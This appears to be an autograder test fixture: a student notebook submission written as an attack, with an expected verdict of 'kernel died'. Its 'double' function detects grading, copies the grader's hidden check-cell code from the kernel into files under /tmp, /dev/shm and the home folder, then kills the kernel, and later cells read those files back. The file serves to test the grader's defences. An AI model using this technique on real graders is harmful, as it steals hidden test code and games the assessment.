# attack: writes a check cell's code to every folder, dies, and prints what it finds when the cells run again
# verdict: kernel died
# marks: double_two=0 double_negative=0 noise_bounds=2
# never: rng().uniform
# %% exercise="double"
import os
from pathlib import Path

from dlcourse import session

for folder in ("/tmp", "/dev/shm", "/home/student", "."):
    for left in Path(folder).glob("left-*"):
        print(left.read_text())


def double(x):
    if session.sending():
        code = get_ipython().kernel.get_parent("shell")["content"]["code"]
        for folder in ("/tmp", "/dev/shm", "/home/student", "."):
            Path(folder, "left-by-an-attack").write_text(code)
        os._exit(1)
    return x * x + 0.5

# %%
for folder in ("/tmp", "/dev/shm", "/home/student", "."):
    for left in Path(folder).glob("left-*"):
        print(left.read_text())
